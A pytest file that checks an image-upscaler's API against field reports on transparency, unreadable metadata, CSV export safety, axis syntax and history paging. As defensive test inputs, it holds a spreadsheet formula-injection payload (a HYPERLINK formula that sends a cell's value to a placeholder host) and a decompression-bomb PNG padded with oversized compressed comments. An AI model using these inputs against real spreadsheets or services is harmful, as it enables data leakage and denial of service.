"""Field reports (issue 13) through the public API: transparency in every form a PNG declares it, metadata that
must not stop a picture, exports safe to open, the X/Y/Z syntax as people type it, a history that says when it
shows part of itself. Each kind is a category of the tally."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import numpy as np
import pytest
from gradio_client import handle_file

from core import config
from tests import png_files as files
from tests.png_files import chunk, expanding, jpeg_segment, red_jpeg, red_png
from tests.reliability import completed, mean_colour, refused

TRANSPARENT = {
    "1-bit grey tRNS": lambda: files.grey_key(1),
    "2-bit grey tRNS": lambda: files.grey_key_white(2),
    "8-bit grey tRNS": lambda: files.grey_key(8),
    "16-bit grey tRNS": lambda: files.grey_key(16),
    "8-bit RGB colour key": lambda: files.rgb_key(8),
    "16-bit RGB colour key": lambda: files.rgb_key(16),
    "palette tRNS": lambda: files.palette_key(8),
    "grey+alpha": lambda: files.alpha_png(4, 8),
}


@pytest.mark.reliability("transparency")
@pytest.mark.parametrize("name", TRANSPARENT)
def test_transparency_survives_a_local_upscale(client, tmp_path: Path, name: str) -> None:
    path = tmp_path / "cutout.png"
    path.write_bytes(TRANSPARENT[name]())
    output = completed(client, str(path), upscale_factor=2)
    assert output.mode == "RGBA" and output.size == (128, 128)
    alpha = np.asarray(output.getchannel("A"))
    assert alpha[0, 0] == 0 and alpha[-1, -1] == 0 and alpha[64, 64] > 200


METADATA = {
    "zTXt comment of 1.5 MB": lambda: red_png([chunk(b"zTXt", b"Comment\0\0" + expanding(1_500_000))]),
    "70 zTXt chunks of 1 MB": lambda: red_png([chunk(b"zTXt", b"k%d\0\0" % i + expanding(1_000_000))
                                               for i in range(70)]),
    "iCCP with an unknown method": lambda: red_png([chunk(b"iCCP", b"icc\0\1xyz")]),
    "eXIf that is not TIFF": lambda: red_png([chunk(b"eXIf", b"not a tiff at all")]),
    "tEXt with a bad checksum": lambda: red_png([chunk(b"tEXt", b"Comment\0hi", crc=1)]),
    "JPEG ICC segment cut short": lambda: red_jpeg(jpeg_segment(0xE2, b"ICC_PROFILE\0")),
}


@pytest.mark.reliability("metadata")
@pytest.mark.parametrize("name", METADATA)
def test_unreadable_metadata_does_not_stop_an_upscale(client, tmp_path: Path, name: str) -> None:
    data = METADATA[name]()
    path = tmp_path / ("picture.jpg" if data.startswith(b"\xff\xd8") else "picture.png")
    path.write_bytes(data)
    output = completed(client, str(path), upscale_factor=2)
    assert output.size == (48, 32) and mean_colour(output)[0] > 150


@pytest.mark.reliability("metadata")
def test_the_console_says_what_was_ignored(tmp_path: Path) -> None:
    from components.upscale.action import upscale

    path = tmp_path / "comment.png"
    path.write_bytes(METADATA["zTXt comment of 1.5 MB"]())

    async def run() -> list[str]:
        lines: list[str] = []
        async for _, _, view in upscale(str(path), upscale_factor=1, engine="local"):
            lines = view.lines
        return lines

    lines = asyncio.run(run())
    assert any("Note: Ignored metadata that could not be read (zTXt “Comment”)" in line for line in lines), lines


@pytest.mark.reliability("metadata")
def test_the_pixel_limit_still_refuses_a_bomb_with_a_big_comment(client, tmp_path: Path) -> None:
    from tests.reliability import bomb_png

    data = Path(bomb_png(tmp_path / "bomb.png")).read_bytes()
    path = tmp_path / "bomb-comment.png"
    path.write_bytes(data[:33] + chunk(b"zTXt", b"Comment\0\0" + expanding(1_500_000)) + data[33:])
    refused(client, r"too large to decode safely|inputs are limited to 16 MP", str(path))


def _sweep(client, image: str, **params) -> tuple[str, str, dict]:
    params = {"engine": "local", "upscale_factor": 1, "y_axis": "", "y_values": "", **params}
    return client.predict(handle_file(image), "", api_name="/sweep", **params)


@pytest.mark.reliability("exports")
def test_the_sweep_csv_is_safe_to_open(client, tmp_path: Path, case, fal_server, fal_key, monkeypatch) -> None:
    case.tried = 3  # formula cells, UTF-8 with BOM round trip, no server paths
    monkeypatch.setenv("FAL_KEY", fal_key)  # the prompt is an axis fal uses (the local engine ignores it)
    fal_server.set_default(queue_polls=1, run_polls=1)
    image = files.plain("RGB", "PNG")
    path = tmp_path / "in.png"
    path.write_bytes(image)
    formula = '=HYPERLINK("https://example.invalid/?"&A1,"open") café 東京'
    sheet_csv, _, _ = _sweep(client, str(path), prompt="a cat", x_axis="prompt", engine="fal",
                          x_values=f"{formula} | -1 café 東京")
    data = Path(sheet_csv).read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row["prompt"] for row in rows] == ["'" + formula, "'-1 café 東京"]
    assert str(config.data_dir()) not in data.decode("utf-8-sig")
    assert all(row["output_path"].startswith("outputs/") for row in rows)


@pytest.mark.reliability("axis syntax")
def test_quoted_prompt_sr_values_with_spaces_run(client, tmp_path: Path, fal_server, fal_key, monkeypatch) -> None:
    monkeypatch.setenv("FAL_KEY", fal_key)  # prompt search/replace is an axis of fal's (the local engine ignores it)
    fal_server.set_default(queue_polls=1, run_polls=1)
    path = tmp_path / "in.png"
    path.write_bytes(files.plain("RGB", "PNG"))
    sheet_csv, _, _ = _sweep(client, str(path), prompt="a red, fox", x_axis="prompt_sr", engine="fal",
                          x_values='"red, fox" , "blue, bird"')
    rows = list(csv.DictReader(io.StringIO(Path(sheet_csv).read_bytes().decode("utf-8-sig"), newline="")))
    assert [row["prompt"] for row in rows] == ["a red, fox", "a blue, bird"]


@pytest.mark.reliability("axis syntax")
def test_an_en_dash_range_is_refused_with_the_spelling_to_use(client, tmp_path: Path) -> None:
    path = tmp_path / "in.png"
    path.write_bytes(files.plain("RGB", "PNG"))
    with pytest.raises(Exception, match="`1–3`.*write `1-3`"):
        _sweep(client, str(path), x_axis="upscale_factor", x_values="1–3")


@pytest.mark.reliability("partial history")
def test_history_pages_past_the_table_limit(client) -> None:
    from core.runs import store
    from core.runs.runs import Run

    ids = []
    for i in range(700):
        run = Run(engine="local", arguments={"prompt": f"p{i}"}, status="completed")
        run.created_at = 1_700_000_000 + i
        store.save(run)
        ids.append(run.id)
    ids.reverse()
    assert [row[-1] for row in client.predict(api_name="/history")[0]["data"]] == ids[:500]
    assert [row[-1] for row in client.predict("", "any", "any", 500, 500, api_name="/history")[0]["data"]] == ids[500:]
